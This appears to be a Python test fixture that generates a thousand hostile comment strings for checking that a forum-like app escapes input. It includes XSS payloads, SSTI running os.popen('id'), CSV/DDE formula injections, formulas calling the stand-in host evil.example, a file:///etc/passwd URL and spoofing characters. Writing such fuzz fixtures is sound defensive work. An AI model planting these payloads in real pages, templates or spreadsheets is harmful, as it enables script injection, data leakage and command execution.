"""A thousand comments that attack whatever shows them: the same list for ever, for every test.

Each payload that a browser would run adds to `window.pwned`, changes the title or asks for
something at evil.example, so that a test can see whether it ran.
"""

from __future__ import annotations

from itertools import chain, islice

N = 1000
RUNS = "window.pwned=(window.pwned||0)+1"
ADDRESS = "https://evil.example/x"

_MARKUP = (
    f"<script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f"</title></style></textarea><script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f'"><img src="{ADDRESS}.png" onerror="{RUNS}">',
    f"'><svg/onload={RUNS}>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUNS}>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f'<iframe src="javascript:{RUNS}"></iframe>',
    f"<body onload={RUNS}>",
    f"<details open ontoggle={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}></video>",
    f'<a href="javascript:{RUNS}">lien</a>',
    f'<a href="data:text/html,<script>{RUNS}</script>">x</a>',
    f'<object data="{ADDRESS}"></object><embed src="{ADDRESS}">',
    f'<link rel=stylesheet href="{ADDRESS}.css">',
    f'<meta http-equiv=refresh content="0;url={ADDRESS}">',
    f'<base href="{ADDRESS}/">',
    f"<style>@import '{ADDRESS}.css';body{{display:none}}</style>",
    f"<form action={ADDRESS}><button>ok</button></form>",
    f"]]><script>{RUNS}</script>",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"<!--><script>{RUNS}</script>-->",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    "&lt;script&gt;&#60;script&#62;&amp;lt;",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"＜script＞{RUNS}＜/script＞",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
)
_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f'=HYPERLINK("{ADDRESS}?"&A1,"cliquez")',
    f'=IMPORTXML("{ADDRESS}","//a")',
    f'=WEBSERVICE("{ADDRESS}")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "|calc",
    "%0A=1+1",
    '";=1+1;"',
    "'=1+1",
    "{=1+1}",
    "1e5",
    "007",
    "12/11",
    "TRUE",
    "#REF!",
)
_STRUCTURE = (
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b | c",
    "# Titre\n## Titre",
    "Titre\n=====",
    "Titre\n-----",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "    code en retrait",
    "`code` ``co`de``",
    "[lien](javascript:alert(1))",
    f"[lien]({ADDRESS})",
    f"![image]({ADDRESS}.png)",
    f"<{ADDRESS}>",
    f"{ADDRESS} www.evil.example evil.example/x",
    f"[ref]\n\n[ref]: {ADDRESS}",
    f"[ref][] note[^1]\n\n[^1]: {ADDRESS}",
    "- a\n- b\n  - c",
    "1. un\n2) deux",
    "> cité\n>> encore",
    "* * *\n---\n___",
    "**gras** __gras__ *italique* _italique_ ~~barré~~",
    "$x^2$ $$y$$",
    "<!here> <!channel> <@U012345> <#C012345|general>",
    "@here @channel @everyone @camille @org/team",
    "#123 GH-123 org/repo#1 !12 :smile: :+1:",
    "<b>gras</b><br><hr>",
    "- [ ] à faire\n- [x] fait",
    "\\*rien\\* \\[rien\\]",
    "fin de ligne\\\ndeux blancs  \nsuite",
    "Terme\n: définition",
)
_CHARACTERS = (
    "trajet \u202egnorw si txet siht\u202c perdu",
    "\u202e\u202e\u202ejamais fermé",
    "\u2066isolé \u2067jamais fermé",
    "\u200f\u200eDroite gauche",
    "zé\u200bro\u200clar\u200dgeur\u2060!",
    "\ufeffmarque au début",
    "nul \x00 dedans",
    "sonnette \x07 échappement \x1b[31mrouge\x1b[0m",
    "".join(map(chr, range(1, 32))),
    "\x7f\x80\x85\x9f",
    "ligne\u2028suivante\u2029paragraphe",
    "saut\x0bvertical\x0cpage",
    "retour\rchariot\r\nligne",
    "non\ufffecaractère\uffff",
    "_x0041_ _x000D_ _x005F_",
    "Z̷̢̛͔̼̗̦̳̙̣̹̗͇̋̾̈́̓̅̄͑̍a̵l̷g̸o̶" * 8,
    "a" + "\u0301" * 300,
    "👩‍👩‍👧‍👦🚲🔥" * 60,
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇫🇷 👍🏽",
    "التطبيق يفقد المسار بعد التحديث الأخير.",
    "האפליקציה מאבדת את המסלול (שוב) !",
    "アプリがルートを失う。" * 30,
    "แอปพลิเคชันสูญเสียเส้นทาง" * 30,
    "аррӏе.com раураӏ ɡооɡӏе",
    "ﷺ﷽" * 40,
    "𝕳𝖊𝖑𝖑𝖔 ｆｕｌｌ ｗｉｄｔｈ",
    "\U0010ffff\U000e0041",
)
_LONG = (
    "x" * 100_000,
    "trajet" * 17_000,
    "https://evil.example/" + "a" * 99_000,
    "<b>" * 30_000,
    "(" * 20_000,
    "[" * 20_000,
    "> " * 10_000,
    "*_" * 10_000,
    "`" * 9_999,
    "\n" * 5_000 + "fin",
    "mot " * 12_000,
    "界" * 40_000,
)
_SHORT = ("", " ", ".", "0", "-", "=", "@", "null", "NaN", "None", "undefined", "\u200b", "'", '"')

URLS = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}",
    f" javascript:{RUNS}",
    f"java\nscript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    f"vbscript:{RUNS}",
    "file:///etc/passwd",
    "//evil.example/x",
    "http://",
    "https://user:secret@evil.example/",
    f'https://forum.example/"onmouseover="{RUNS}',
    "https://forum.example/a b",
    "https://forum.example/<script>",
    "https://forum.example/)](javascript:x)",
    "https://forum.example/>|x|",
    "https://forum.example/'=1+1",
    "https://forum.example/" + "a" * 5_000,
    "https://forum.example/é?q=1&r=(2)#z",
    "https://forum.exаmple/",
    "http://[::1",
    "internal:'Sheet'!A1",
    "external:c:\\x.xlsx",
    "",
)
"""Addresses of which few may be followed."""

_SEEDS = (*_MARKUP, *_FORMULAS, *_STRUCTURE, *_CHARACTERS, *_LONG, *_SHORT)
_AROUND = (
    "{}",
    "Le trajet disparaît. {}",
    "{} et le trajet disparaît",
    "{}\n{}",
    "« {} »",
    "\t{} ",
)
_FULL = "Le trajet disparaît, cas {} : {}"


def hostile_texts() -> tuple[str, ...]:
    """N texts, no two alike: every seed as it is, then within other words, then numbered."""
    short = [seed for seed in _SEEDS if len(seed) < 4_000]
    varied = (around.replace("{}", seed) for around in _AROUND[1:] for seed in short)
    numbered = (_FULL.format(n, short[n % len(short)]) for n in range(N))
    return tuple(islice(dict.fromkeys(chain(_SEEDS, varied, numbered)), N))


def hostile_names() -> tuple[str, ...]:
    """Texts short enough that somebody could have given them to a community, a product, a team."""
    return tuple(seed for seed in _SEEDS if 0 < len(seed.strip()) <= 200)
